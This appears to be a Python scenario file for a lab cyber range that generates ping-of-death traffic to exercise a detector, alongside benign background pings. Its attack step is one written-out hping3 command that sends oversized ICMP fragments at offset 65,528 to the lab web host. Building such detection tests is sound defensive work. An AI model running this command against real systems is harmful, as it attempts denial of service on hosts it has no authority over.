"""hping3: a last fragment that ends behind octet 65,535."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, web = net.inside("attacker"), net.web()
    net.everyday()
    net.loop(net.inside("pc1"), f"ping -n -q -c 1 -W 1 -s 4000 {web.ip}", 0.7)
    with net.attack("ping-of-death", by=attacker, victims=[web], frames=f"icmp and dst host {web.ip}"):
        net.tool(attacker, *f"hping3 -q --icmp -g 65528 -d 400 -i u200000 -c 20 {web.ip}".split())
    net.quiet(2)


SCENARIO = Scenario(
    name="ping-of-death-hping3",
    about="hping3 sends last fragments at offset 65,528 with 400 octets; another host sends honest pings.",
    detectors=("ping-of-death",),
    tools={"hping3": "hping3"},
    run=run,
)
